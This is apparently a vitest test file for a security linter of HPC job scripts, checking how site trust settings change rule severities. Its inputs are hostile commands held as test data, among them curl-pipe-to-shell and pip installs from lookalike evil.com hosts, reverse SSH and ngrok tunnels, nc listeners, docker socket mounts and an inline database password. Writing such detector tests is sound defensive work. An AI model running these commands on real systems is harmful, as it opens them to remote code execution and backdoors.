// What each fact of a site changes in the rules, and what it must not change.
import { describe, expect, it } from 'vitest';
import type { SiteSection } from '../../src/policy/schema.ts';
import { check, job } from '../support/check.ts';
import { own } from '../support/own.ts';
import { ownAt, reasonsAt, withSite } from '../support/site.ts';

interface Case {
  readonly rule: string;
  readonly body: string;
  readonly site: SiteSection;
  /** what the rule says without the facts, and with them */
  readonly without: readonly string[];
  readonly at: readonly string[];
}

const row = (
  rule: string,
  body: string,
  site: SiteSection,
  without: string | undefined,
  at: string | undefined,
): Case => ({
  rule,
  body,
  site,
  without: without === undefined ? [] : [without],
  at: at === undefined ? [] : [at],
});

const REGISTRY: SiteSection = { 'trusted-registries': ['registry.example.org', 'ghcr.io/our-lab'] };
const INDEX: SiteSection = { 'trusted-indexes': ['pypi.example.org', 'fastlab', 'https://conda.example.net/lab'] };
const REPOSITORY: SiteSection = { 'trusted-repositories': ['gitlab.example.org', 'github.com/our-lab'] };
const DOMAIN: SiteSection = { domains: ['hpc.example.org'], 'login-nodes': ['login*.hpc.example.org'] };
const PUBLIC: SiteSection = { 'public-networks': ['203.0.113.0/24', 'eth1', '*.ext.example.org'] };
const WALLED: SiteSection = { 'firewalled-networks': ['10.8.0.0/16', 'ib0'] };
const PODMAN: SiteSection = { docker: 'podman' };
const ALONE: SiteSection = { 'node-sharing': false };
const OWN_TMP: SiteSection = { 'private-tmp': true };

const JUPYTER = "jupyter lab --ServerApp.token='' --ip=";

const CASES: readonly (readonly [title: string, cases: readonly Case[]])[] = [
  [
    'trusted registries',
    [
      row('JV312', 'docker run registry.example.org/team/app:1', REGISTRY, 'medium 3 medium', undefined),
      row('JV312', 'podman run ghcr.io/our-lab/app', REGISTRY, 'medium 3 medium', undefined),
      row(
        'JV312',
        'srun --container-image="registry.example.org#team/app" ./x',
        REGISTRY,
        'medium 3 medium',
        undefined,
      ),
      row('JV312', 'docker run registry.example.org.evil.com/app:1', REGISTRY, 'medium 3 medium', 'medium 3 medium'),
      row('JV312', 'docker run evil-registry.example.org/app:1', REGISTRY, 'medium 3 medium', 'medium 3 medium'),
      row('JV312', 'docker run ghcr.io/our-labs/app', REGISTRY, 'medium 3 medium', 'medium 3 medium'),
      row('JV312', 'docker run our-lab/app', REGISTRY, 'medium 3 medium', 'medium 3 medium'),
      row('JV312', 'apptainer remote add r https://registry.example.org', REGISTRY, 'medium 3 medium', undefined),
      row('JV302', 'docker run registry.example.org/team/app', REGISTRY, undefined, 'low 3'),
      row('JV302', 'docker run ghcr.io/our-lab/app:latest', REGISTRY, undefined, 'low 3'),
      row('JV302', 'docker run ubuntu', { 'trusted-registries': ['docker.io/library'] }, 'medium 3', 'low 3'),
      row('JV302', 'docker run ubuntu', REGISTRY, 'medium 3', 'medium 3'),
      row('JV208', 'apptainer run docker://ghcr.io/our-lab/app', REGISTRY, 'medium 3 medium', undefined),
      row('JV208', 'apptainer run docker://ghcr.io/our-labs/app', REGISTRY, 'medium 3 medium', 'medium 3 medium'),
      row(
        'JV405',
        'podman pull --tls-verify=false reg01/app',
        { 'trusted-registries': ['reg01'] },
        'critical 3',
        'critical 3',
      ),
      row(
        'JV405',
        'podman pull --tls-verify=false reg01:5000/app',
        { 'trusted-registries': ['reg01:5000'] },
        'medium 3',
        'low 3',
      ),
      row('JV405', 'podman pull --tls-verify=false registry.example.org/app', REGISTRY, 'critical 3', 'critical 3'),
      row('JV405', 'podman pull --tls-verify=false r.hpc.example.org/app', DOMAIN, 'critical 3', 'low 3'),
      row('JV405', 'podman pull --tls-verify=false r.hpc.example.org.evil.com/app', DOMAIN, 'critical 3', 'critical 3'),
    ],
  ],
  [
    'trusted indexes',
    [
      row('JV312', 'conda install -c fastlab tool==1', INDEX, 'medium 3 medium', undefined),
      row('JV312', 'conda install -c fastlabs tool==1', INDEX, 'medium 3 medium', 'medium 3 medium'),
      row('JV312', 'conda config --add channels https://conda.example.net/lab/x', INDEX, 'medium 3 medium', undefined),
      row(
        'JV312',
        'conda config --add channels https://conda.example.net/labs',
        INDEX,
        'medium 3 medium',
        'medium 3 medium',
      ),
      row('JV312', 'spack mirror add m https://pypi.example.org/spack', INDEX, 'medium 3 medium', undefined),
      row(
        'JV312',
        'spack mirror add m https://pypi.example.org.evil.com/',
        INDEX,
        'medium 3 medium',
        'medium 3 medium',
      ),
      row('JV308', 'pip install --extra-index-url https://pypi.example.org/simple a==1', INDEX, 'high 3', 'medium 3'),
      row('JV308', 'pip install --extra-index-url https://pypi.example.org.evil.com/ a==1', INDEX, 'high 3', 'high 3'),
      row(
        'JV308',
        'pip install -i https://pypi.example.org/all --extra-index-url https://pypi.example.org/simple a==1',
        INDEX,
        'high 3',
        'low 3',
      ),
      row(
        'JV308',
        'pip install -i https://pypi.example.org/all --extra-index-url https://evil.com/simple a==1',
        INDEX,
        'high 3',
        'high 3',
      ),
      row(
        'JV308',
        'export PIP_EXTRA_INDEX_URL=https://pypi.example.org/simple\npip install a==1',
        INDEX,
        'high 3',
        'medium 3',
      ),
      row('JV309', 'pip install -i http://pypi.example.org/simple a==1', INDEX, 'high 3', 'high 3'),
      row(
        'JV309',
        'pip install -i http://pypi.example.org/simple a==1',
        { 'trusted-indexes': ['http://pypi.example.org/simple'] },
        'high 3',
        'low 3',
      ),
      row(
        'JV309',
        'pip install -i http://pypi.example.org/simples a==1',
        { 'trusted-indexes': ['http://pypi.example.org/simple'] },
        'high 3',
        'high 3',
      ),
      row('JV309', 'pip install -i http://pypi.hpc.example.org/simple a==1', DOMAIN, 'high 3', 'low 3'),
      row('JV309', 'pip install -i http://pypi.evil-hpc.example.org/simple a==1', DOMAIN, 'high 3', 'high 3'),
      row(
        'JV309',
        'pip install -i http://mirror01/simple a==1',
        { 'trusted-indexes': ['mirror01'] },
        'medium 3',
        'low 3',
      ),
      row('JV309', 'pip install -i http://10.1.2.3/simple a==1', { domains: ['10.1.0.0/16'] }, 'medium 3', 'low 3'),
      row('JV309', 'pip install -i http://10.2.2.3/simple a==1', { domains: ['10.1.0.0/16'] }, 'medium 3', 'medium 3'),
      row('JV309', 'pip install --trusted-host pypi.hpc.example.org a==1', DOMAIN, 'high 3', 'low 3'),
      row('JV309', 'export PIP_INDEX_URL=http://pypi.hpc.example.org/simple', DOMAIN, 'high 3', 'low 3'),
      row(
        'JV309',
        'pip install -i http://pypi.hpc.example.org/simple --extra-index-url http://evil.com/ a==1',
        DOMAIN,
        'high 3',
        'high 3',
      ),
    ],
  ],
  [
    'trusted repositories',
    [
      row('JV311', 'pip install git+https://gitlab.example.org/lab/tool', REPOSITORY, 'high 3', 'low 3'),
      row('JV311', 'git clone https://github.com/our-lab/tool && bash tool/run.sh', REPOSITORY, 'high 3', 'low 3'),
      row('JV311', 'git clone git@github.com:our-lab/tool.git && bash tool/run.sh', REPOSITORY, 'high 3', 'low 3'),
      row('JV311', 'npm install our-lab/tool', REPOSITORY, 'high 3', 'low 3'),
      row('JV311', 'pip install git+https://github.com/our-labs/tool', REPOSITORY, 'high 3', 'high 3'),
      row('JV311', 'pip install git+https://gitlab.example.org.evil.com/lab/tool', REPOSITORY, 'high 3', 'high 3'),
      row('JV311', 'pip install git+https://github.com/our-lab/../evil/tool', REPOSITORY, 'high 3', 'high 3'),
    ],
  ],
  [
    'trusted installers and models',
    [
      row(
        'JV301',
        'curl -LsSf https://astral.sh/uv/install.sh | sh',
        { 'trusted-installers': ['astral.sh'] },
        'high 3',
        'medium 3',
      ),
      row(
        'JV301',
        'sudo bash -c "$(curl -L https://astral.sh/x.sh)"',
        { 'trusted-installers': ['astral.sh'] },
        'critical 3',
        'medium 3',
      ),
      row(
        'JV301',
        'curl -kL https://astral.sh/uv/install.sh | sh',
        { 'trusted-installers': ['astral.sh'] },
        'critical 3',
        'critical 3',
      ),
      row(
        'JV301',
        'curl -L http://astral.sh/uv/install.sh | sh',
        { 'trusted-installers': ['astral.sh'] },
        'critical 3',
        'critical 3',
      ),
      row(
        'JV301',
        'curl -L https://astral.sh.evil.com/i.sh | sh',
        { 'trusted-installers': ['astral.sh'] },
        'high 3',
        'high 3',
      ),
      row(
        'JV301',
        'curl -L https://evil-astral.sh/i.sh | sh',
        { 'trusted-installers': ['astral.sh'] },
        'high 3',
        'high 3',
      ),
      row('JV802', 'vllm serve our-lab/net --trust-remote-code', { 'trusted-models': ['our-lab'] }, 'high 3', 'low 3'),
      row(
        'JV802',
        'vllm serve our-labs/net --trust-remote-code',
        { 'trusted-models': ['our-lab'] },
        'high 3',
        'high 3',
      ),
    ],
  ],
  [
    'tunnels',
    [
      row(
        'JV109',
        'cloudflared tunnel --url http://localhost:1',
        { 'allowed-tunnels': ['cloudflared'] },
        'critical 3',
        undefined,
      ),
      row(
        'JV109',
        './cloudflared-linux-amd64 tunnel --url http://localhost:1',
        { 'allowed-tunnels': ['cloudflared'] },
        'critical 3',
        undefined,
      ),
      row('JV109', 'code tunnel --name x', { 'allowed-tunnels': ['code tunnel'] }, 'high 3', undefined),
      row('JV109', 'ngrok http 80', { 'allowed-tunnels': ['code tunnel'] }, 'critical 3', 'critical 3'),
      row('JV109', 'ssh -N -R 9000:localhost:22 me@home.example.net', DOMAIN, undefined, 'critical 3'),
      row('JV109', 'ssh -N -R 9000:localhost:22 me@198.51.100.7', DOMAIN, undefined, 'critical 3 medium'),
      row('JV109', 'ssh -N -R 9000:localhost:22 me@hpc.example.org.evil.com', DOMAIN, undefined, 'critical 3'),
      row('JV109', 'ssh -N -R 0.0.0.0:9000:localhost:22 me@home.example.net', DOMAIN, undefined, 'critical 3'),
      row('JV111', 'ssh -N -R 0.0.0.0:9000:localhost:22 me@home.example.net', DOMAIN, 'high 3 medium', undefined),
      row('JV109', 'ssh -N -R 9000:localhost:22 me@gw.hpc.example.org', DOMAIN, undefined, undefined),
      row('JV109', 'ssh -N -R 9000:localhost:22 workstation', DOMAIN, undefined, undefined),
      row('JV109', 'ssh -N -R 9000:localhost:22 $TARGET', DOMAIN, undefined, undefined),
      row('JV109', 'ssh -N -L 9000:localhost:22 me@home.example.net', DOMAIN, undefined, undefined),
      row('JV111', 'ssh -N -R 8888:localhost:8888 login1', DOMAIN, undefined, 'medium 3 medium'),
      row('JV111', 'ssh -N -R 8888:localhost:8888 me@login2.hpc.example.org', DOMAIN, undefined, 'medium 3 medium'),
      row('JV111', 'ssh -N -R localhost:8888:localhost:8888 login1', DOMAIN, undefined, undefined),
      row('JV111', 'ssh -N -R 8888:localhost:8888 node1', DOMAIN, undefined, undefined),
      row('JV111', 'ssh -N -L 8888:localhost:8888 login1', DOMAIN, undefined, undefined),
    ],
  ],
  [
    'networks',
    [
      row('JV101', `${JUPYTER}203.0.113.9`, PUBLIC, 'critical 3', 'critical 3'),
      row('JV101', `${JUPYTER}10.8.1.2`, WALLED, 'critical 3', 'low 3'),
      row('JV101', `${JUPYTER}10.9.1.2`, WALLED, 'critical 3', 'critical 3'),
      row('JV101', `${JUPYTER}0.0.0.0`, WALLED, 'critical 3', 'critical 3'),
      row('JV101', `${JUPYTER}0.0.0.0`, { 'firewalled-networks': ['*'] }, 'critical 3', 'low 3'),
      row('JV101', `${JUPYTER}0.0.0.0`, { 'firewalled-networks': ['0.0.0.0/0'] }, 'critical 3', 'low 3'),
      row('JV101', `${JUPYTER}0.0.0.0`, { 'firewalled-networks': ['0.0.0.0'] }, 'critical 3', 'critical 3'),
      row('JV102', 'tensorboard --host 203.0.113.9', PUBLIC, 'high 3', 'critical 3'),
      row('JV102', 'tensorboard --host node1.ext.example.org', PUBLIC, 'high 3', 'critical 3'),
      row('JV102', 'tensorboard --host node1.ext.example.org.evil.com', PUBLIC, 'high 3', 'high 3'),
      row('JV102', 'tensorboard --host 203.0.114.9', PUBLIC, 'high 3', 'high 3'),
      row('JV102', 'tensorboard --bind_all', PUBLIC, 'high 3', 'high 3'),
      row('JV102', 'tensorboard --host 10.8.1.2', WALLED, 'high 3', 'low 3'),
      row('JV103', 'jupyter lab --ip=203.0.113.9', PUBLIC, 'medium 3', 'high 3'),
      row('JV103', 'jupyter lab --ip=10.8.1.2', WALLED, 'medium 3', 'low 3'),
      row('JV103', 'ttyd -W -c me:$PW -i eth1 bash', PUBLIC, 'medium 3', 'high 3'),
      row('JV103', 'ttyd -W -c me:$PW -i eth10 bash', PUBLIC, 'medium 3', 'medium 3'),
      row('JV103', 'ttyd -W -c me:$PW -i ib0 bash', WALLED, 'medium 3', 'low 3'),
      row('JV105', 'dask scheduler --host 203.0.113.9', PUBLIC, 'medium 3 medium', 'high 3 medium'),
      row('JV107', 'nc -l 10.8.1.2 4444', WALLED, 'high 3 medium', 'low 3 medium'),
      row('JV107', 'nc -l 203.0.113.9 4444', PUBLIC, 'high 3 medium', 'critical 3 medium'),
      row('JV805', 'vllm serve a/b --host 203.0.113.9', PUBLIC, 'high 3', 'critical 3'),
      row('JV805', 'vllm serve a/b --host 10.8.0.1', WALLED, 'high 3', 'low 3'),
      row('JV108', 'docker run -p 203.0.113.9:80:80 ubuntu', PUBLIC, undefined, 'critical 3'),
      row('JV108', 'docker run -p 203.0.114.9:80:80 ubuntu', PUBLIC, undefined, undefined),
      row('JV108', 'docker run -p 80:80 ubuntu', { 'firewalled-networks': ['*'] }, 'high 3', 'low 3'),
      row('JV111', 'ssh -N -L 203.0.113.9:80:x:80 y', PUBLIC, 'high 3', 'critical 3'),
      row('JV111', 'ssh -N -L 10.8.1.2:80:x:80 y', WALLED, 'high 3', 'low 3'),
    ],
  ],
  [
    'addresses without TLS',
    [
      row('JV404', 'wget http://data.hpc.example.org/x.tar', DOMAIN, 'medium 3', 'low 3'),
      row('JV404', 'curl -T x ftp://data.hpc.example.org/', DOMAIN, 'high 3', 'low 3'),
      row('JV404', 'wget http://data.hpc.example.org.evil.com/x.tar', DOMAIN, 'medium 3', 'medium 3'),
      row('JV404', 'wget http://hpc.example.org@evil.com/x.tar', DOMAIN, 'medium 3', 'medium 3'),
      row('JV404', 'redis-cli -h db.hpc.example.org get x', DOMAIN, 'medium 3', 'low 3'),
      row('JV405', 'wget http://data.hpc.example.org/x.sh\nbash x.sh', DOMAIN, 'high 3', 'low 3'),
      row('JV405', 'wget http://evil-hpc.example.org/x.sh\nbash x.sh', DOMAIN, 'high 3', 'high 3'),
      row('JV405', 'pip install http://files.hpc.example.org/a-1.whl', DOMAIN, 'high 3', 'low 3'),
      row('JV405', 'git clone http://git.hpc.example.org/x && bash x/y.sh', DOMAIN, 'high 3', 'low 3'),
    ],
  ],
  [
    'docker is podman',
    [
      row('JV203', 'docker run ubuntu:24.04 ls', PODMAN, 'medium 3 medium', undefined),
      row('JV203', 'docker compose up', PODMAN, 'medium 3 medium', undefined),
      row('JV203', 'docker-compose up', PODMAN, 'medium 3 medium', undefined),
      row('JV203', 'sudo docker run ubuntu:24.04 ls', PODMAN, 'high 3 medium', 'high 3 medium'),
      row('JV203', 'dockerd &', PODMAN, 'medium 3 medium', 'medium 3 medium'),
      row('JV203', 'docker run ubuntu:24.04 ls', { docker: 'docker' }, 'medium 3 medium', 'medium 3 medium'),
      row('JV201', 'docker run --privileged ubuntu:24.04 ls', PODMAN, 'critical 3', 'high 3'),
      row('JV201', 'sudo docker run --privileged ubuntu:24.04 ls', PODMAN, 'critical 3', 'critical 3'),
      row('JV204', 'docker run --cap-add=SYS_ADMIN ubuntu:24.04 ls', PODMAN, 'high 3', 'medium 3'),
      row('JV206', 'docker run --security-opt label=disable ubuntu:24.04 ls', PODMAN, 'high 3', 'low 3'),
      row('JV207', 'docker run -v /:/host ubuntu:24.04 ls', PODMAN, 'critical 3', 'low 3'),
      row('JV108', 'docker run -p 80:80 ubuntu:24.04', PODMAN, 'high 3', 'low 3'),
      row('JV202', 'docker run -v /var/run/docker.sock:/s ubuntu:24.04', PODMAN, 'critical 3', 'critical 3'),
    ],
  ],
  [
    'nodes and temporary folders',
    [
      row('JV313', 'source /tmp/env.sh', ALONE, 'high 3 medium', 'medium 3 medium'),
      row('JV313', 'source /scratch/shared/env.sh', ALONE, 'high 3 low', 'high 3 low'),
      row('JV313', 'source /tmp/env.sh', { 'node-sharing': true }, 'high 3 medium', 'high 3 medium'),
      row('JV313', 'source /tmp/env.sh', OWN_TMP, 'high 3 medium', undefined),
      row('JV313', 'export PATH=/var/tmp/bin:$PATH', OWN_TMP, 'high 3 medium', undefined),
      row('JV313', 'source /dev/shm/env.sh', OWN_TMP, 'high 3 medium', 'high 3 medium'),
      row('JV313', 'source /tmp/env.sh', { 'private-tmp': false }, 'high 3 medium', 'high 3 medium'),
      row('JV313', 'chmod 777 /data/x\nsource /data/x/env.sh', OWN_TMP, 'high 4 medium', 'high 4 medium'),
      row('JV601', 'chmod -R 777 /tmp/x', OWN_TMP, 'high 3', undefined),
      row('JV601', 'chmod -R 777 /tmp/x /data/x', OWN_TMP, 'high 3', 'high 3'),
      row('JV601', 'chmod -R 777 /tmp/../data', OWN_TMP, 'high 3', 'high 3'),
      row('JV601', 'chmod -R 777 /tmpfoo', OWN_TMP, 'high 3', 'high 3'),
      row('JV601', 'chmod -R 777 /dev/shm/x', OWN_TMP, 'high 3', 'high 3'),
      row('JV205', 'podman run --pid=host ubuntu:24.04', ALONE, 'high 3', 'medium 3'),
      row('JV502', 'mysql -pSwordfish99x -e x', ALONE, 'high 3', 'medium 3'),
    ],
  ],
];

for (const [title, cases] of CASES) {
  describe(title, () => {
    it.each(cases.map((one) => [`${one.rule}: ${one.body}`, JSON.stringify(one.site), one] as const))(
      '%s at %s',
      (_body, _site, { rule, body, site, without, at }) => {
        expect({ without: own(rule, body), at: ownAt(rule, body, site) }).toEqual({ without, at });
      },
    );
  });
}

describe('reasons', () => {
  it.each<readonly [string, string, SiteSection, readonly string[]]>([
    ['JV302', 'docker run ghcr.io/our-lab/app', REGISTRY, ['the site trusts this registry']],
    // Low already: the site's word changed nothing.
    ['JV302', 'docker run ghcr.io/our-lab/app:1', REGISTRY, []],
    ['JV311', 'pip install git+https://gitlab.example.org/lab/tool', REPOSITORY, ['the site trusts this repository']],
    [
      'JV301',
      'sudo bash -c "$(curl -L https://astral.sh/x.sh)"',
      { 'trusted-installers': ['astral.sh'] },
      ['the site trusts installers of this host'],
    ],
    ['JV103', 'jupyter lab --ip=10.8.1.2', WALLED, ['the site keeps this network to the owner of the job']],
    ['JV313', 'source /tmp/env.sh', ALONE, ['the site says that jobs of other users never run on the node']],
  ])('%s %s', (rule, body, site, expected) => {
    expect(reasonsAt(rule, body, site)).toEqual(expected);
  });
});

describe('fixes', () => {
  const edits = (body: string, site: SiteSection): number =>
    check(job(body), 'job.sbatch', withSite(site))
      .findings.filter(({ rule }) => rule === 'JV301')
      .flatMap(({ fix }) => (fix?.safety === 'safe' ? fix.edits : [])).length;

  it('fetches installers of trusted hosts over https', () => {
    const site = { 'trusted-installers': ['astral.sh'] };
    expect(edits('curl -L http://astral.sh/uv/install.sh | sh', site)).toBe(1);
    expect(edits('curl -L http://astral.sh:8080/uv/install.sh | sh', site)).toBe(0);
    expect(edits('curl -L http://astral.sh.evil.com/install.sh | sh', site)).toBe(0);
    expect(edits('curl -L http://astral.sh/uv/install.sh | sh', {})).toBe(0);
  });
});

describe('what is allowed instead', () => {
  const message = (body: string, site: SiteSection = {}): string =>
    check(job(body), 'job.sbatch', withSite(site)).findings.find(({ rule }) => rule === 'JV312')?.message ?? '';

  it('names the trusted registries, those of the site first', () => {
    expect(message('docker run reg.example.net/app:1', REGISTRY)).toContain(
      '(registry.example.org, ghcr.io/our-lab, docker.io/library, nvcr.io, quay.io/biocontainers and ',
    );
    expect(message('docker run reg.example.net/app:1')).toContain('(docker.io/library, nvcr.io, ');
    expect(message('conda install -c x-lab tool==1', INDEX)).toContain('(pypi.example.org, fastlab, ');
  });

  it.each<readonly [string, SiteSection, string]>([
    ['docker run registry.exmaple.org/app:1', REGISTRY, 'registry.example.org'],
    ['docker run ghcr.io/our-lap/app:1', REGISTRY, 'ghcr.io/our-lab'],
    ['docker run pytroch/pytorch:1', {}, 'docker.io/pytorch'],
    ['docker run nvcr.oi/nvidia/pytorch:1', {}, 'nvcr.io'],
    ['conda install -c conda-froge tool==1', {}, 'conda-forge'],
  ])('asks whether a near one was meant: %s', (body, site, near) => {
    expect(message(body, site)).toContain(`Is ${near} meant?`);
  });

  it('asks nothing when none is near', () => {
    expect(message('docker run reg.example.net/app:1', REGISTRY)).not.toContain('meant');
  });
});
